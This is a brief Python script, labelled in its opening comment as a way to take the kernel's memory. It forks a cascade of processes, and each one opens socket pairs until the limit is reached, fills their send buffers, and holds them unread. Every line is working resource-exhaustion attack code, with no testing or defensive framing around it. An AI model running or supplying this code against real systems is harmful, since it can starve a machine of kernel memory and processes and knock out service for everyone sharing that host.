# Takes the kernel's memory in sockets that nobody reads.
import contextlib
import os
import socket
import time

for _ in range(16):
    if os.fork() == 0:
        held = []
        with contextlib.suppress(OSError):
            while True:
                pair = socket.socketpair()
                held.append(pair)
                for end in pair:
                    end.setblocking(False)
                    with contextlib.suppress(BlockingIOError):
                        while True:
                            end.send(b"x" * 4096)
        time.sleep(60)
time.sleep(60)
